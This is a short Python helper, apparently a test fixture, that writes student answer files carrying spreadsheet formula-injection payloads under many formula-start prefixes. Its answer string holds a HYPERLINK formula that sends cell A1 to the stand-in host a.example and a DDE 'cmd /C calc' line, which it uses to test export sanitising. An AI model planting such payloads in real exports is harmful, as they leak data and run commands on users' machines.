"""Hand in one answer per way to begin a formula."""

from pathlib import Path

STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\ufeff=", "\x00=", '"=', "'=")


def make(folder: Path) -> None:
    for number, start in enumerate(STARTS):
        place = folder / "class" / f"reports-formula-{number}"
        place.mkdir(parents=True)
        answer = f'{start}HYPERLINK("http://a.example/?"&A1,"oui")\n=cmd|\' /C calc\'!A0\n@SUM(1)'
        (place / "morpion.py").write_text(f"question_g1 = {answer!r}\n", "utf-8")
